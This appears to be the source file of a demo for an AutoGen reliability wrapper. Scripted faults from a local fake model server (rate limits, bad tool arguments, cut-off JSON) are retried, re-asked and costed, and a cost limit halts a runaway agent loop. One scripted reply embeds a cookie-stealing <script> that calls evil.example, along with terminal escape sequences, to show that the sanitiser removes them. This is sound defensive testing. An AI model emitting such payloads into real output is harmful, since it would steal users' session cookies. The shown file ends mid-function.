"""The showcase behind ``autogen-reliability demo``.

A three-agent AutoGen support team works on a ticket: a **triage** agent looks
the order up with a tool (``lookup_order``) and answers with structured output
(:class:`Triage`), a **writer** drafts the reply, a **critic** reviews it until
it approves. The three share one model client, AutoGen's real
``OpenAIChatCompletionClient``, wrapped once with :func:`reliable`; it speaks
HTTP to the built-in OpenAI-compatible server on 127.0.0.1 (no API key, no
network), whose scripted model misbehaves the way real ones do:

- the writer's first request is rate limited (429 with ``retry-after-ms``),
  the critic's finds the model overloaded (503): both retried;
- the triage agent calls its tool with an argument of the wrong type, then
  answers with cut-off JSON: both re-asked by the validation stage;
- the writer's draft carries a ``<script>`` payload and terminal escape
  sequences: the sanitiser removes them before any agent (or this terminal)
  sees them, and the demo says what was removed.

Then a **runaway loop** (a drafter and a critic who never approves) runs until
:class:`~autogen_reliability.CostTermination` stops it at a small limit.

Every provider attempt is shown as it ends, in order with the transcript:
agent, attempt, outcome, tokens and exact cost, read from the usage events
the wrapper records (the process's usage feed), which become the rows of a real
ledger (by default the SQLite file ``autogen-reliability-demo/usage.db`` in the
working directory). The demo ends with the usage report of its run read back
from that ledger (a table with a total line, and the waste), the health
probe's report as JSON (with what its error rate counts), a check that every attempt shown is a row, and
``usage-report.html`` next to the ledger.

With ``--live`` the same team runs against the real OpenAI API (the key given
by the command, from ``OPENAI_API_KEY``), with no faults injected.

On a terminal the attempt in progress is shown live (rich); elsewhere (a pipe,
a file, a test) the same lines are printed plainly, without escape codes.
"""

from __future__ import annotations

import asyncio
import json
import re
import shlex
import uuid
from collections import Counter
from collections.abc import AsyncIterator, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, Literal, TextIO

from autogen_agentchat.agents import AssistantAgent
from autogen_agentchat.base import TaskResult, Team
from autogen_agentchat.conditions import MaxMessageTermination, TextMentionTermination
from autogen_agentchat.messages import (
    BaseAgentEvent,
    BaseChatMessage,
    ModelClientStreamingChunkEvent,
    StructuredMessage,
    TextMessage,
    ToolCallExecutionEvent,
    ToolCallRequestEvent,
)
from autogen_agentchat.teams import RoundRobinGroupChat, SelectorGroupChat
from autogen_core import CancellationToken, FunctionCall
from autogen_core.models import FunctionExecutionResultMessage, UserMessage
from autogen_ext.models.openai import OpenAIChatCompletionClient
from pydantic import BaseModel

from . import CostTermination, HealthProbe, RetryPolicy, ValidationPolicy, reliable, usage_scope
from ._config import ENV_DB_URL
from ._pipeline import AttemptEvent, Call, Pipeline, subscribe_attempts, subscribe_calls
from ._redaction import redact
from .accounting import UsageEvent, UsageRecorder, _feed
from .retry import RetryEvent
from .storage import UsageStore
from .storage._engine import url_secrets
from .testing import FakeOpenAIServer, FakeReply, RecordedRequest

if TYPE_CHECKING:
    from rich.console import Console
    from rich.live import Live

    from . import HealthReport, ReliableChatCompletionClient
    from .reports import UsageReport

__all__ = [
    "DEFAULT_DIRECTORY",
    "DEFAULT_MODEL",
    "DemoFailedError",
    "LiveAPI",
    "Triage",
    "provider_client",
    "run_demo",
    "support_team",
]

DEFAULT_DIRECTORY = Path("autogen-reliability-demo")
"""Where the demo keeps its ledger and report unless told otherwise (relative to the working directory)."""

DEFAULT_MODEL: Final = "gpt-4o-mini"
"""The model the team uses, offline (the local server plays it, priced as it) and with ``--live``."""

PROJECT: Final = "demo"
TICKET_SESSION: Final = "ticket-4711"
RUNAWAY_SESSION: Final = "ticket-4712"
TASK: Final = "Ticket 4711 from Dana: where is my refund? I ordered on 28 May (order 4711)."
RUNAWAY_TASK: Final = "Ticket 4712: write a one-line apology for a late parcel."

# The runaway loop's limit: a dozen turns or so, of the scripted model's short answers or of gpt-4o-mini's.
RUNAWAY_LIMIT_OFFLINE: Final = Decimal("0.0002")
RUNAWAY_LIMIT_LIVE: Final = Decimal("0.001")
# Only a safety net, in case the cost limit could not stop the loop (a model with no known price).
RUNAWAY_BACKSTOP_MESSAGES: Final = 40

# Offline waits are kept short: the storm is there to be seen, not waited for.
_OFFLINE_RETRY = RetryPolicy(initial_delay=0.3, max_delay=1.0)
_VALIDATION = ValidationPolicy(reask=2)


class DemoFailedError(Exception):
    """The team failed (its error is in the output); raised once the report of what it did was written."""


@dataclass(frozen=True)
class LiveAPI:
    """Run against the real OpenAI API (``--live``) rather than the local server.

    Attributes:
        api_key: The key (the command reads ``OPENAI_API_KEY``); never shown.
        model: The model every agent uses.
    """

    api_key: str = field(repr=False)
    model: str = DEFAULT_MODEL


# --- the team ---------------------------------------------------------------------------------------------


class Triage(BaseModel):
    """What the triage agent answers with."""

    ticket: int
    priority: Literal["low", "high"]
    summary: str


async def lookup_order(order_id: int) -> str:
    """Look an order up by its number: its status and refund."""
    if order_id != 4711:
        return f"no order {order_id}"
    return "order 4711: cancelled on 29 May; refund of $42.00 issued on 2 June to the card ending 0042"


_TRIAGE_PROMPT = (
    "You are the triage agent. Look the customer's order up with lookup_order, then classify the ticket: "
    "its number, its priority (low or high) and a one-line summary."
)
_WRITER_PROMPT = (
    "You are the writer. Draft a short, friendly plain-text reply to the customer from the triage's findings; "
    "when the critic asks for changes, write the whole reply again with them."
)
_CRITIC_PROMPT = (
    "You are the critic. Review the writer's latest draft. If it is ready to send, answer APPROVE; "
    "otherwise say in one sentence what to change."
)
_DRAFTER_PROMPT = "You are the drafter. Write the one-line apology asked for; improve it as the perfectionist asks."
_PERFECTIONIST_PROMPT = (
    "You are the perfectionist. Say in one sentence how the drafter's latest line could be better. "
    "Never approve: there is always something."
)
_NEXT_SPEAKER = {"user": "triage", "triage": "writer", "writer": "critic", "critic": "writer"}


def _next_speaker(messages: Sequence[BaseAgentEvent | BaseChatMessage]) -> str | None:
    # A fixed order rather than a model's choice: triage once, then the writer and the critic in turns.
    return _NEXT_SPEAKER.get(messages[-1].source)


def support_team(llm: ReliableChatCompletionClient, *, stream: bool = False) -> SelectorGroupChat:
    """The ticket's team: triage (a tool and structured output), then writer and critic until the critic approves.

    Args:
        llm: The wrapped model client the three agents share.
        stream: Let the agents stream their replies.
    """
    triage = AssistantAgent(
        "triage",
        model_client=llm,
        system_message=_TRIAGE_PROMPT,
        tools=[lookup_order],
        output_content_type=Triage,
        model_client_stream=stream,
    )
    writer = AssistantAgent("writer", model_client=llm, system_message=_WRITER_PROMPT, model_client_stream=stream)
    critic = AssistantAgent("critic", model_client=llm, system_message=_CRITIC_PROMPT, model_client_stream=stream)
    return SelectorGroupChat(
        [triage, writer, critic],
        model_client=llm,  # never called: the selector function always names the next speaker
        selector_func=_next_speaker,
        allow_repeated_speaker=True,
        termination_condition=TextMentionTermination("APPROVE", sources=["critic"]) | MaxMessageTermination(12),
        custom_message_types=[StructuredMessage[Triage]],
    )


def runaway_team(llm: ReliableChatCompletionClient, limit: Decimal, *, stream: bool = False) -> RoundRobinGroupChat:
    """Two agents that never agree, stopped by :class:`CostTermination` at ``limit`` USD (a message cap backs it)."""
    drafter = AssistantAgent("drafter", model_client=llm, system_message=_DRAFTER_PROMPT, model_client_stream=stream)
    perfectionist = AssistantAgent(
        "perfectionist", model_client=llm, system_message=_PERFECTIONIST_PROMPT, model_client_stream=stream
    )
    stop = CostTermination(limit) | MaxMessageTermination(RUNAWAY_BACKSTOP_MESSAGES)
    return RoundRobinGroupChat([drafter, perfectionist], termination_condition=stop)


def live_model_refusal(model: str) -> str | None:
    """Why the team cannot run on ``model`` with ``--live``, if it cannot; said before any request is sent.

    AutoGen's ``OpenAIChatCompletionClient`` raises for a model name it has no ``model_info`` for, and the triage
    agent needs function calling (its tool) and structured output (its answer).
    """
    try:
        info = OpenAIChatCompletionClient(model=model, api_key="sk-not-used").model_info
    except ValueError:
        return (
            f"--model {model}: AutoGen's OpenAIChatCompletionClient does not know this model (it needs its "
            f"model_info); choose one it knows, e.g. {DEFAULT_MODEL} or gpt-4.1-mini"
        )
    features = {"function_calling": "function calling", "structured_output": "structured output"}
    missing = [name for key, name in features.items() if not info.get(key)]
    if missing:
        return (
            f"--model {model}: a model without {' and '.join(missing)}, which the triage agent needs; "
            f"choose another, e.g. {DEFAULT_MODEL}"
        )
    return None


def provider_client(model: str, *, api_key: str, base_url: str | None = None) -> OpenAIChatCompletionClient:
    """AutoGen's OpenAI client the team's wrapper goes around: the real API, or the local server at ``base_url``."""
    if base_url is None:
        return OpenAIChatCompletionClient(model=model, api_key=api_key)
    return OpenAIChatCompletionClient(model=model, api_key=api_key, base_url=base_url)


# --- the scripted storm -----------------------------------------------------------------------------------

_XSS_AND_ANSI = (
    "Hi Dana, your refund of $42.00 was issued on 2 June.\x1b[2J\x1b[31m It is on its way!\x1b[0m "
    "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>"
)


def _storm() -> dict[str, list[FakeReply]]:
    """What the scripted model answers each agent, in order (an error reply is one failed attempt)."""
    return {
        "triage": [
            # A tool call whose argument has the wrong type: the tool-argument check re-asks.
            FakeReply.tool_calls([("lookup_order", {"order_id": "four-seven-one-one"})]),
            FakeReply.tool_calls([("lookup_order", {"order_id": 4711})]),
            # Cut-off JSON: re-asked; then JSON in prose and a fence, which validation extracts.
            FakeReply.text('{"ticket": 4711, "priority": "high", "summary": "Refund issued on 2 June, not rece'),
            FakeReply.text(
                "Here is the triage:\n```json\n"
                '{"ticket": 4711, "priority": "high", "summary": "Refund of $42.00 issued 2 June, not received"}\n```'
            ),
        ],
        "writer": [
            FakeReply.error(429, headers={"retry-after-ms": "400"}),
            FakeReply.text(_XSS_AND_ANSI),
            FakeReply.text(
                "Hi Dana, sorry for the wait. Your refund of $42.00 was issued on 2 June; it reaches the card "
                "ending 0042 within 5 business days. Reply here if it does not."
            ),
        ],
        "critic": [
            FakeReply.error(503),
            FakeReply.text("Say sorry for the wait, and when the money arrives, so Dana need not ask again."),
            FakeReply.text("Clear, warm and complete. APPROVE"),
        ],
    }


_DRAFTS = (
    "We are sorry your parcel is late.",
    "We are truly sorry that your parcel is late.",
    "We are so sorry your parcel is late; it is on its way.",
    "Sorry for the delay: your parcel is on its way and should arrive tomorrow.",
)
_CRITIQUES = (
    "Almost. Make it warmer.",
    "Better, but 'truly' sounds stiff; try again.",
    "Say when it arrives.",
    "Good, but it could be shorter.",
)


class _ScriptedModel:
    """The local server's model: each agent (named by its system prompt) gets its script, in order."""

    def __init__(self) -> None:
        self._script = _storm()
        self._turns: Counter[str] = Counter()

    def __call__(self, request: RecordedRequest) -> FakeReply:
        messages = request.messages
        system = str(messages[0].get("content", "")) if messages else ""
        match = re.match(r"You are the (\w+)", system)
        agent = match[1] if match else "?"
        script = self._script.get(agent)
        if script:
            return script.pop(0)
        turn = self._turns[agent]
        self._turns[agent] += 1
        if agent == "drafter":
            return FakeReply.text(_DRAFTS[turn % len(_DRAFTS)])
        if agent == "perfectionist":
            return FakeReply.text(_CRITIQUES[turn % len(_CRITIQUES)])
        return FakeReply.error(400, f"the demo's script has no answer for {agent!r}")


# --- the run ----------------------------------------------------------------------------------------------


def run_demo(out: TextIO, *, stream: bool = False, db_url: str | None = None, live: LiveAPI | None = None) -> Path:
    """Runs the demo's two acts, then writes the usage report of the run to ``out`` and to an HTML file.

    Args:
        out: Where the display goes (live on a terminal, plain lines elsewhere).
        stream: Let the agents stream their replies.
        db_url: The usage ledger (default: ``sqlite:///autogen-reliability-demo/usage.db``). The HTML report
            is written next to a SQLite file, else into ``autogen-reliability-demo/``.
        live: Run against the real OpenAI API instead of the local server, with no faults injected.

    Returns:
        The path of the HTML report.

    Raises:
        DemoFailedError: A team failed (with ``--live``, a rejected key for one); its report was written.
    """
    if db_url is None:
        DEFAULT_DIRECTORY.mkdir(exist_ok=True)
        db_url = f"sqlite:///{DEFAULT_DIRECTORY / 'usage.db'}"
    store = UsageStore(db_url)
    database = store.engine.url.database if store.engine.dialect.name == "sqlite" else None
    in_memory = store.engine.dialect.name == "sqlite" and database in (None, "", ":memory:")
    directory = Path(database).resolve().parent if database and not in_memory else DEFAULT_DIRECTORY
    directory.mkdir(parents=True, exist_ok=True)
    started = datetime.now(UTC)
    recorder = UsageRecorder(store, spool_dir=directory / "spool", close_sink=False)
    display = _Display(out, recorder)
    try:
        with display.watching():
            health = asyncio.run(_run(display, store, recorder, stream=stream, live=live))
        recorder.flush(30)
        report = store.report(PROJECT, since=started)
        stored = store.events(project=PROJECT, since=started)
    finally:
        recorder.close()
        store.close()
    html = _written(directory / "usage-report.html", report.to_html())
    health_file = _written(directory / "health.json", health.model_dump_json(indent=2) + "\n")
    display.closing(report, health, stored)
    display.line("")
    ledger = "in memory, gone with the demo (--db sqlite:///FILE keeps it)" if in_memory else store.url
    display.line(f"Usage ledger: {ledger}")
    display.line(f"HTML report:  {html.resolve()}")
    display.line(f"Health JSON:  {health_file.resolve()}")
    if not in_memory:  # a command could not report a ledger that is gone
        # This run's report, as above: the ledger keeps earlier runs' rows.
        again = ["autogen-reliability", "report", "--project", PROJECT, "--since", started.isoformat()]
        if url_secrets(store.engine.url):
            # store.url masks the password, which no command line should show: the command reads the variable.
            display.line(f"Report again, with {ENV_DB_URL} set to the ledger's URL: {shlex.join(again)}")
        else:
            display.line(f"Report again: {shlex.join([*again, '--db', store.url])}")
    if display.failure is not None:
        raise DemoFailedError(f"the team stopped: {display.failure}")
    return html


def _written(path: Path, text: str) -> Path:
    """``path``, with ``text`` written to it; an error writing it names it (a full disk's would not)."""
    try:
        path.write_text(text, encoding="utf-8")
    except OSError as error:
        if error.filename is None:
            raise OSError(error.errno, error.strerror, str(path)) from error
        raise
    return path


async def _run(
    display: _Display, store: UsageStore, recorder: UsageRecorder, *, stream: bool, live: LiveAPI | None
) -> HealthReport:
    """Both acts; returns the health probe's report, made after them."""
    if live is not None:
        provider = provider_client(live.model, api_key=live.api_key)
        display.opening(
            f"the OpenAI API, model {live.model}.", "--live: real calls at real prices, no faults injected."
        )
        return await _acts(display, store, recorder, provider, stream=stream, live=True)
    async with FakeOpenAIServer(model=DEFAULT_MODEL, default=_ScriptedModel()) as server:
        provider = provider_client(DEFAULT_MODEL, api_key="sk-demo-not-a-real-key", base_url=server.base_url)
        display.opening(
            f"a local OpenAI-compatible server at {server.base_url}: no API key, no network.",
            "Its model misbehaves on purpose: a rate limit, an overloaded server, a tool call with bad arguments,",
            "cut-off JSON, and an answer carrying a script and terminal escapes.",
        )
        return await _acts(display, store, recorder, provider, stream=stream, live=False)


async def _acts(
    display: _Display,
    store: UsageStore,
    recorder: UsageRecorder,
    provider: OpenAIChatCompletionClient,
    *,
    stream: bool,
    live: bool,
) -> HealthReport:
    try:
        # One wrapper shared by every agent, as one provider client often is: AutoGen's runtime tells it
        # which agent calls.
        llm = reliable(
            provider,
            project=PROJECT,
            recorder=recorder,
            retry=RetryPolicy() if live else _OFFLINE_RETRY,
            validation=_VALIDATION,
            on_retry=display.retrying,  # the display shows each wait (the command's log level hides the warning)
        )
        probe = HealthProbe({"openai": llm}, store)  # built before the calls: it watches them from now on

        try:
            display.act(f"Ticket 4711, session {TICKET_SESSION!r}: triage, writer and critic")
            async with usage_scope(session=TICKET_SESSION):
                await display.follow(support_team(llm, stream=stream), TASK)
            display.tally()

            limit = RUNAWAY_LIMIT_LIVE if live else RUNAWAY_LIMIT_OFFLINE
            display.act(
                f"A runaway loop, session {RUNAWAY_SESSION!r}: a drafter and a perfectionist who never approves, "
                f"under CostTermination(max_cost_usd={limit})"
            )
            async with usage_scope(session=RUNAWAY_SESSION):
                result = await display.follow(runaway_team(llm, limit, stream=stream), RUNAWAY_TASK)
            display.stopped(result, limit)
        except Exception as error:  # a team that fails (a bad key, --live) still gets its report
            display.failed(error)

        await asyncio.to_thread(recorder.flush, 30)  # the store's health includes the rows still to write
        return await probe.check()
    finally:
        await provider.close()


# --- the display ------------------------------------------------------------------------------------------

_AGENT_WIDTH: Final = 13
_OUTCOME_WIDTH: Final = 15  # "authentication", "context_length": the longest kinds a run meets
_LEGEND_NUMBERS: Final = f"{'in':>5} → {'out':<4} {'cost USD':>12}"
_OUTCOMES: Final = ("ok", "invalid", "error", "cancelled")
# The failures the health probe leaves out of its error rate as the request's own fault, not the provider's.
_RECENT_ATTEMPTS: Final = {"clients": {"__all__": {"providers": {"__all__": {"recent"}}}}}
_PLAIN_WIDTH: Final = 120  # what the report's tables are laid out for when the output is not a terminal
_CSI_OR_OSC: Final = re.compile(r"\x1b(?:\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(?:\x07|\x1b\\)?|.)", re.DOTALL)
# Look-alikes that show what a sequence or a tag was without being one (RUF001 flags them written out).
_INERT: Final = str.maketrans({"\x1b": "\u241b", "<": "\u2039", ">": "\u203a"})
_TAG: Final = re.compile(r"<(/?)([a-zA-Z][a-zA-Z0-9-]*)")
_CHANGE_NAMES: Final = {
    "html": "HTML tags",
    "ansi": "ANSI escape sequences",
    "control_chars": "control characters",
    "bidi": "bidi controls",
    "zero_width": "invisible characters",
    "tag_chars": "tag characters",
    "markdown_links": "unsafe link targets",
    "normalize": "texts normalised",
}


def usd(nanousd: int | None) -> str:
    """An exact amount of nano-USD as ``$0.000012345`` (all nine decimals), or ``unpriced``."""
    return "unpriced" if nanousd is None else f"${Decimal(nanousd).scaleb(-9):.9f}"


@dataclass
class _Act:
    """What one act showed: its attempts' rows, and the calls they belong to."""

    rows: list[UsageEvent] = field(default_factory=list)
    calls: set[uuid.UUID] = field(default_factory=set)


class _Display:
    """Shows the demo as it runs: each call's attempts when the call ends, each message as the team yields it.

    The attempt lines are made from the usage events the wrapper records (the accounting stage publishes them
    on the process's usage feed just before the call's end is announced on the call feed), so tokens, outcome
    and cost are the ledger's own. On a terminal, a transient line below them says what is happening meanwhile
    (a request in flight, a retry's wait, a streamed reply).
    """

    def __init__(self, out: TextIO, recorder: UsageRecorder) -> None:
        from rich.console import Console  # noqa: PLC0415  # rich loads only when something is shown

        try:
            terminal = out.isatty()
        except (AttributeError, ValueError):
            terminal = False
        # Decided here, not by rich from the environment (FORCE_COLOR, TTY_COMPATIBLE): a pipe or a file
        # gets plain lines, whatever the variables say.
        self.console: Console = Console(
            file=out,
            force_terminal=terminal,
            width=None if terminal else _PLAIN_WIDTH,
            markup=False,
            highlight=False,
            emoji=False,
        )
        self._recorder = recorder
        self._live: Live | None = None
        self._rows: dict[uuid.UUID, list[UsageEvent]] = {}
        self._waits: dict[tuple[uuid.UUID, int], float] = {}
        self._act = _Act()
        self.failure: str | None = None
        self._shown: list[UsageEvent] = []
        self._streamed: dict[str, str] = {}

    # -- plumbing: the feeds ----------------------------------------------------------------------------------

    @contextmanager
    def watching(self) -> Iterator[None]:
        """Subscribed to the usage, call and attempt feeds (and, on a terminal, the live line) meanwhile."""
        unsubscribers = [_feed.subscribe(self._recorded), subscribe_calls(self), subscribe_attempts(self._attempted)]
        if self.console.is_terminal:
            from rich.live import Live  # noqa: PLC0415

            self._live = Live(console=self.console, transient=True, refresh_per_second=12)
            self._live.start()
        try:
            yield
        finally:
            if self._live is not None:
                self._live.stop()
                self._live = None
            for unsubscribe in unsubscribers:
                unsubscribe()

    def _recorded(self, event: UsageEvent, recorder: UsageRecorder) -> None:
        if recorder is self._recorder:
            self._rows.setdefault(event.call_id, []).append(event)

    def call_started(self, call: Call, pipeline: Pipeline) -> None:
        """A model call starts: said on the live line."""
        self._status(f"{call.attribution.agent or '?'} is calling the model…")

    def _attempted(self, event: AttemptEvent) -> None:
        agent = event.call.attribution.agent or "?"
        if event.error is None:
            self._status(f"{agent}: attempt {event.attempt} answered; checking the answer…")
        else:
            self._status(f"{agent}: attempt {event.attempt} failed ({type(event.error).__name__})")

    def retrying(self, event: RetryEvent) -> None:
        """The wrapper's ``on_retry`` hook: the wait is remembered for the attempt's line, and shown meanwhile."""
        self._waits[(event.call.call_id, event.attempt)] = event.wait
        agent = event.call.attribution.agent or "?"
        self._status(f"{agent}: {event.error_kind.value} on attempt {event.attempt}; retrying in {event.wait:.2f} s")

    def call_ended(self, call: Call, pipeline: Pipeline, error: BaseException | None) -> None:
        """The call's rows were published just before: one line per attempt, in order."""
        self._status("")
        rows = sorted(self._rows.pop(call.call_id, []), key=lambda row: row.attempt)
        if not rows:  # a call of a wrapper that records elsewhere: not the demo's
            return
        attempts = {event.attempt: event for event in call.events}
        for row in rows:
            self._attempt_line(row, attempts.get(row.attempt), attempts.get(row.attempt + 1))
        self._shown += rows
        self._act.rows += rows
        self._act.calls.add(call.call_id)

    def _status(self, text: str) -> None:
        if self._live is not None:
            from rich.spinner import Spinner  # noqa: PLC0415

            self._live.update(Spinner("dots", text=text) if text else "")

    # -- what is printed ---------------------------------------------------------------------------------------

    def line(self, text: str, style: str | None = None) -> None:
        """One line of plain text (never read as markup)."""
        from rich.text import Text  # noqa: PLC0415

        self.console.print(Text(text, style=style or ""), soft_wrap=True)

    def opening(self, where: str, *more: str) -> None:
        """What runs, and where."""
        self.line("autogen-reliability demo", "bold")
        self.line(f"A support team of AutoGen agents on {where}")
        for line in more:
            self.line(line)
        self.line("Lines with · are provider attempts, shown as each call ends: agent, attempt, outcome, tokens")
        self.line("in → out, exact cost (the usage row the wrapper records), and what the wrapper did about it.")
        self.line("Lines with [agent] are the transcript.")

    def act(self, title: str) -> None:
        """A new act begins."""
        self._act = _Act()
        self.line("")
        self.line(title, "bold")
        self.line(f"    {'agent':<{_AGENT_WIDTH}} {'try':<4}{'outcome':<{_OUTCOME_WIDTH}}{_LEGEND_NUMBERS}", "dim")

    async def follow(self, team: Team, task: str) -> TaskResult:
        """Runs ``team`` on ``task``, printing its messages as it yields them; returns its result.

        Cancelled (Ctrl-C), it cancels the team's run too, and returns once the run has ended: AutoGen, its
        consumer cancelled, lets the team run on to its end, each agent's calls paid for.
        """
        token = CancellationToken()
        running = asyncio.ensure_future(self._follow(team.run_stream(task=task, cancellation_token=token)))
        try:
            return await asyncio.shield(running)
        except asyncio.CancelledError:
            token.cancel()  # the call in flight is cancelled (and recorded so), no other is made
            await asyncio.wait([running])
            if not running.cancelled():
                running.exception()  # retrieved: the cancellation is what is said
            raise

    async def _follow(self, stream: AsyncIterator[BaseAgentEvent | BaseChatMessage | TaskResult]) -> TaskResult:
        async for item in stream:
            if isinstance(item, TaskResult):
                return item
            self._message(item)
        raise RuntimeError("the team ended without a result")  # AutoGen always yields one last

    def _message(self, message: BaseAgentEvent | BaseChatMessage) -> None:
        source = message.source
        if isinstance(message, ModelClientStreamingChunkEvent):
            self._streamed[source] = self._streamed.get(source, "") + message.content
            self._status(f"{source} is streaming: …{self._streamed[source][-60:]}")
            return
        self._streamed.pop(source, None)
        if isinstance(message, ToolCallRequestEvent):
            for call in message.content:
                self.line(f"[{source}] calls {_call_text(call)}", "cyan")
        elif isinstance(message, ToolCallExecutionEvent):
            for result in message.content:
                self.line(f"[{source}] {result.name} → {result.content}", "cyan")
        elif isinstance(message, StructuredMessage):
            self.line(f"[{source}] {message.content!r}", "bold")
        elif isinstance(message, TextMessage):
            self.line(f"[{source}] {message.content}", "bold")

    def _attempt_line(self, row: UsageEvent, attempt: AttemptEvent | None, following: AttemptEvent | None) -> None:
        from rich.text import Text  # noqa: PLC0415

        if row.outcome == "error":
            outcome, style = row.error_kind or "error", "yellow"
        else:
            outcome, style = row.outcome, {"ok": "green", "invalid": "magenta"}.get(row.outcome, "red")
        text = Text("  · ")
        text.append(f"{row.agent or '?':<{_AGENT_WIDTH}}", "bold")
        text.append(f" {'#' + str(row.attempt):<4}")
        text.append(f"{outcome:<{_OUTCOME_WIDTH}}", style)
        text.append(f"{row.prompt_tokens:>5} → {row.completion_tokens:<4} {usd(row.cost_nanousd):>12}")
        note = self._note(row, attempt, following)
        if note:
            text.append(f"  {note}", "dim")
        self.console.print(text, soft_wrap=True)

    def _note(self, row: UsageEvent, attempt: AttemptEvent | None, following: AttemptEvent | None) -> str:
        """What the wrapper did about this attempt, in words."""
        wait = self._waits.pop((row.call_id, row.attempt), None)
        if row.outcome == "error":
            said = f"HTTP {row.http_status}" if row.http_status else "failed"
            asked = _retry_after(attempt.error if attempt is not None else None)
            if wait is not None:
                return f"{said}{asked}; waited {wait:.2f} s, retried"
            return f"{said}{asked}; not retried"
        raw = attempt.result.content if attempt is not None and attempt.result is not None else None
        if row.outcome == "invalid":
            answer = (
                "tool call " + ", ".join(_call_text(call) for call in raw)
                if isinstance(raw, list)
                else f"answer {_excerpt(raw)}"
                if isinstance(raw, str)
                else "the answer"
            )
            told = _violations_told(following)
            return f"{answer} → re-asked: {told}" if told else f"{answer} → invalid"
        notes: list[str] = []
        if isinstance(raw, list):
            notes.append("calls " + ", ".join(_call_text(call) for call in raw))
        elif isinstance(raw, str) and attempt is not None and _expects_json(attempt):
            stripped = raw.strip()
            notes.append("valid JSON" if stripped[:1] in "{[" else "JSON found in the prose around it, valid")
        if row.sanitizer_changes:
            notes.append(_sanitised(row.sanitizer_changes, raw if isinstance(raw, str) else ""))
        return "; ".join(notes)

    def tally(self) -> None:
        """The act's attempts, by outcome, and their cost, summed from the lines above."""
        rows = self._act.rows
        outcomes = Counter(row.outcome for row in rows)
        by_outcome = ", ".join(f"{outcomes[name]} {name}" for name in _OUTCOMES if outcomes[name])
        cost = sum((row.cost_nanousd or 0 for row in rows), 0)
        tokens = sum(row.prompt_tokens + row.completion_tokens for row in rows)
        self.line(
            f"  = {_count(len(rows), 'attempt')} in {_count(len(self._act.calls), 'call')} ({by_outcome}), "
            f"{tokens} tokens, {usd(cost)}",
            "bold",
        )

    def stopped(self, result: TaskResult, limit: Decimal) -> None:
        """How the runaway loop ended, and what it spent."""
        self.tally()
        spent = sum((row.cost_nanousd or 0 for row in self._act.rows), 0)
        by_budget = spent >= limit * 10**9
        self.line(
            f"  ■ stopped {'by CostTermination' if by_budget else 'by the message cap, not the budget'} "
            f"after {len(result.messages)} messages: {result.stop_reason or 'no reason given'}",
            "bold" if by_budget else "bold red",
        )

    def failed(self, error: Exception) -> None:
        """The team raised ``error``: one line, first line of the message only, secrets redacted."""
        self.tally()
        # AutoGen re-raises an agent's error as a RuntimeError whose text goes on with the traceback.
        message = str(error).strip().splitlines()[0] if str(error).strip() else type(error).__name__
        self.failure = redact(message, limit=300)
        self.line(f"  ✗ the team stopped: {self.failure}", "bold red")

    def closing(self, report: UsageReport, health: HealthReport, stored: Sequence[UsageEvent]) -> None:
        """The report read back from the ledger, the check that no row is missing, and the health JSON."""
        from rich.json import JSON  # noqa: PLC0415

        self.line("")
        self.line(f"Usage report of this run (project {PROJECT!r}, read back from the ledger):", "bold")
        self.console.print(report.to_rich())
        shown = {row.event_id for row in self._shown}
        found = {row.event_id for row in stored}
        cost = sum((row.cost_nanousd or 0 for row in stored), 0)
        if shown == found:
            self.line(
                f"Ledger check: {_count(len(stored), 'row')} for this run, one per attempt shown above; "
                f"{usd(cost)} in all."
            )
        else:
            self.line(
                f"Ledger check: {len(found - shown)} rows not shown above, {len(shown - found)} attempts shown "
                "but not in the ledger.",
                "bold red",
            )
        self.line("")
        self.line("Health (HealthProbe.check(), as GET /health serves it; each provider's recent attempts", "bold")
        self.line("left out here, they are in health.json):", "bold")
        brief = health.model_dump_json(indent=2, exclude=_RECENT_ATTEMPTS)
        self.console.print(JSON(brief, indent=2), soft_wrap=True)
        note = _error_rate_note(health, self._shown)
        if note:
            self.line(note)


def _error_rate_note(health: HealthReport, shown: Sequence[UsageEvent]) -> str | None:
    """Why the health's error rate is not its errors by kind over its attempts, when rate limits were overcome.

    A 429 that a later attempt of its call overcame is listed by kind, but the probe judges it neither a failure
    nor an attempt. Whether one was overcome is read from the rows this run showed; the rate's terms are the
    probe's own.
    """
    client = health.clients.get("openai")
    if client is None or client.error_rate is None or not client.errors_by_kind.get("rate_limit"):
        return None
    answered = {row.call_id for row in shown if row.outcome in ("ok", "invalid")}
    overcome = sum(row.error_kind == "rate_limit" and row.call_id in answered for row in shown)
    if not overcome:
        return None
    one = overcome == 1
    return (
        f"Error rate: {_count(client.failed_attempts, 'failed attempt')} of {client.judged_attempts} judged. "
        f"The rate limit{'' if one else 's'} that a retry of its call overcame {'is' if one else 'are'} listed by "
        f"kind, but {'it counts' if one else 'they count'} neither as a failure nor as an attempt."
    )


def _count(number: int, noun: str) -> str:
    return f"{number} {noun}{'' if number == 1 else 's'}"


def _call_text(call: FunctionCall) -> str:
    """``name(key=value, ...)``: tool arguments are not sanitised (they are data for the tool), so shown inert."""
    try:
        arguments = json.loads(call.arguments)
    except json.JSONDecodeError:
        return _neutralised(f"{_printable(call.name)}({_excerpt(call.arguments)})")
    if isinstance(arguments, dict):
        listed = ", ".join(f"{_printable(key)}={value!r}" for key, value in arguments.items())
    else:
        listed = repr(arguments)
    return _neutralised(f"{_printable(call.name)}({listed})")


def _printable(text: str) -> str:
    """``text``, or its ``repr`` if it holds a character a terminal would act on (``repr`` escapes them)."""
    return text if text.isprintable() else repr(text)


def _excerpt(text: str, limit: int = 60) -> str:
    """A short, quoted, escaped excerpt: no control character, escape or markup reaches the terminal."""
    shown = text if len(text) <= limit else text[: limit - 1] + "…"
    return _neutralised(repr(shown))


def _neutralised(text: str) -> str:
    """``text`` with ESC shown as U+241B, angle brackets as U+2039 and U+203A: readable, and inert anywhere."""
    return text.translate(_INERT)


def _expects_json(attempt: AttemptEvent) -> bool:
    request = attempt.request
    return request.response_format is not None or request.json_output not in (None, False)


def _violations_told(following: AttemptEvent | None) -> str:
    """The violations the validation stage told the model, read from the re-ask (the next attempt's request)."""
    if following is None or not following.request.messages:
        return ""
    last = following.request.messages[-1]
    if isinstance(last, FunctionExecutionResultMessage):
        text = "\n".join(result.content for result in last.content)
    elif isinstance(last, UserMessage) and isinstance(last.content, str):
        text = last.content
    else:
        return ""
    told = [line[2:] for line in text.splitlines() if line.startswith("- ")]
